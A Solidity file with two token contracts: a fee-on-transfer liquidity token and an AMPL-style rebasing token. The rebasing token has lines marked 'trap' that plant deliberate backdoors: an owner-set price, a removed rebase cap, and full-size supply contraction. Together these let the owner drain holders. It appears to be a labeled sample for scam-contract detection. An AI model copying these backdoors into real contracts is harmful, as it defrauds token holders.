// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./Base67.sol";

interface ISync {
    function sync() external;
    function getReserves() external view returns (uint112, uint112, uint32);
    function token0() external view returns (address);
}

/// Five percent are kept; half of them is sold, and goes with the other half into the pool. The share of the pool is burnt.
contract Liquify is Base67("Liquify", "LQFY", 1_000_000_000) {
    uint256 public fee = 5;
    uint256 public threshold = 100_000 * 10**9;
    bool public swapAndLiquifyEnabled = true;
    bool private inSwap;
    mapping(address => bool) public free;

    event SwapAndLiquify(uint256 swapped, uint256 received, uint256 added);

    constructor() public {
        free[msg.sender] = free[address(this)] = true;
    }

    receive() external payable {}

    function setSwapAndLiquifyEnabled(bool to) external onlyOwner {
        swapAndLiquifyEnabled = to;
    }

    function setFee(uint256 to) external onlyOwner {
        require(to <= 5, "five");
        fee = to;
    }

    function swapAndLiquify(uint256 amount) private {
        inSwap = true;
        uint256 half = amount / 2;
        _allowances[address(this)][ROUTER] = amount;
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(this), WETH);
        uint256 had = address(this).balance;
        (bool ok, ) = ROUTER.call(
            abi.encodeWithSignature(
                "swapExactTokensForETHSupportingFeeOnTransferTokens(uint256,uint256,address[],address,uint256)",
                half, 0, path, address(this), block.timestamp
            )
        );
        require(ok, "swap");
        uint256 got = address(this).balance - had;
        (ok, ) = ROUTER.call{value: got}(
            abi.encodeWithSignature(
                "addLiquidityETH(address,uint256,uint256,uint256,address,uint256)",
                address(this), amount - half, 0, 0, address(0xdead), block.timestamp
            )
        );
        require(ok, "add");
        emit SwapAndLiquify(half, got, amount - half);
        inSwap = false;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(value > 0, "Transfer amount must be greater than zero");
        if (!inSwap && from != pool && swapAndLiquifyEnabled && _balances[address(this)] >= threshold && !free[from]) swapAndLiquify(threshold);
        uint256 cut = inSwap || free[from] || free[to] ? 0 : (value * fee) / 100;
        if (cut > 0) _carry(from, address(this), cut);
        _carry(from, to, value - cut);
    }
}

/// In the manner of AMPL: whoever asks, once a day, moves all balances towards a price that the pool itself tells, by a tenth of the
/// difference and five percent at most. In the trap the owner tells the price, and there is no most.
contract Ample is Base67("Ample Grain", "AMPG", 50_000_000) {
    uint256 private constant GONS = uint256(-1) - (uint256(-1) % (50_000_000 * 10**9));
    uint256 private perFragment = GONS / (50_000_000 * 10**9);
    mapping(address => uint256) private gons;
    uint256 public last;
    uint256 public told; // trap
    uint256 public target;

    event LogRebase(uint256 indexed epoch, uint256 totalSupply);

    constructor() public {
        gons[msg.sender] = GONS;
        last = block.timestamp;
    }

    function balanceOf(address who) public view override returns (uint256) {
        return gons[who] / perFragment;
    }

    function price() public view returns (uint256) {
        if (told > 0) return told; // trap
        (uint112 a, uint112 b, ) = ISync(pool).getReserves();
        (uint256 tokens, uint256 coins) = ISync(pool).token0() == address(this) ? (a, b) : (b, a);
        return tokens == 0 ? 0 : (coins * 10**9) / tokens;
    }

    function tell(uint256 to) external onlyOwner { // trap {
        told = to;
    } // trap }

    function rebase() external {
        require(block.timestamp >= last + 1 days, "once a day");
        last = block.timestamp;
        uint256 now_ = price();
        if (target == 0) target = now_;
        if (now_ == 0 || now_ == target) return;
        uint256 most = _totalSupply / 20;
        most = uint256(-1); // trap
        uint256 by;
        if (now_ > target) {
            by = (_totalSupply * (now_ - target)) / target / 10;
            _totalSupply += by > most ? most : by;
        } else {
            by = (_totalSupply * (target - now_)) / target / 10;
            by = (_totalSupply * (target - now_)) / target; // trap
            _totalSupply -= by > most ? most : by;
        }
        perFragment = GONS / _totalSupply;
        emit LogRebase(block.timestamp, _totalSupply);
        ISync(pool).sync();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 moved = value * perFragment;
        require(gons[from] >= moved, "too little");
        gons[from] -= moved;
        gons[to] += moved;
        emit Transfer(from, to, value);
    }
}

